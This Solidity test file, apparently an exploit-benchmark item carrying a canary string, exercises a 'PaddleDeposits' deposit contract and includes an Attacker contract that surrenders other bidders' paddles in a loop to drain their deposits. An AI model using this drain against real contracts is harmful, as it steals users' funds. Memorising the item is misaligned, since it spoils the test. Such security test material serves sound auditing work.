// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./PaddleDeposits.sol";

// assay-canary-c6afdf0f-0487-46e1-8571-9698b2b7bb90

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    address payable private constant TILL = address(0x711);

    PaddleDeposits private room;
    Attacker private mallory;

    function setUp() public {
        room = new PaddleDeposits(1 ether);
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        for (uint256 i = 0; i < 6; i++) {
            register(ANA);
        }
        for (uint256 i = 0; i < 4; i++) {
            register(BEN);
        }
        mallory = new Attacker(room);
        vm.deal(address(mallory), 1 ether);
    }

    function register(address bidder) private {
        vm.prank(bidder);
        room.registerPaddle{value: 1 ether}();
    }

    function test_Regular() public {
        require(room.numberOfPaddles() == 10 && room.holdsPaddle(ANA, 5) && room.holdsPaddle(BEN, 6), "registered");
        vm.startPrank(ANA);
        room.handOverPaddle(BEN, 0);
        room.surrenderPaddle(1);
        room.surrenderPaddle(2);
        vm.stopPrank();
        require(ANA.balance == 16 ether && !room.holdsPaddle(ANA, 1) && room.holdsPaddle(BEN, 0), "surrendered");
        vm.prank(BEN);
        room.surrenderPaddle(0);
        require(BEN.balance == 17 ether, "handed over");
        room.forfeitPaddle(BEN, 6);
        require(room.forfeitedDeposits() == 1 ether && !room.holdsPaddle(BEN, 6), "forfeited");
        room.collectForfeitedDeposits(TILL);
        require(TILL.balance == 1 ether && address(room).balance == 6 ether && room.forfeitedDeposits() == 0, "collected");
        room.transferOwnership(ANA);
        vm.prank(ANA);
        room.renounceOwnership();
    }

    function test_RefusesOpening() public {
        vm.expectRevert("The deposit must not be zero.");
        new PaddleDeposits(0);
    }

    function test_RefusesBidders() public {
        vm.startPrank(BEN);
        vm.expectRevert("The payment must equal the deposit.");
        room.registerPaddle{value: 2 ether}();
        vm.expectRevert("The new bidder must not be zero.");
        room.handOverPaddle(address(0), 6);
        vm.expectRevert("The bidder holds no such paddle.");
        room.handOverPaddle(BEN, 0);
        vm.stopPrank();
        vm.prank(TILL);
        vm.expectRevert();
        room.surrenderPaddle(0);
    }

    function test_RefusesOwners() public {
        vm.expectRevert("The bidder holds no such paddle.");
        room.forfeitPaddle(BEN, 0);
        vm.startPrank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        room.forfeitPaddle(ANA, 0);
        vm.expectRevert("Ownable: caller is not the owner");
        room.collectForfeitedDeposits(BEN);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 11 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(room);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PaddleDeposits private room;

    constructor(PaddleDeposits r) {
        room = r;
    }

    function run() external {
        uint256 own = room.registerPaddle{value: 1 ether}();
        for (uint256 number = 0; number <= own; number++) {
            room.surrenderPaddle(number);
        }
    }

    receive() external payable {}
}
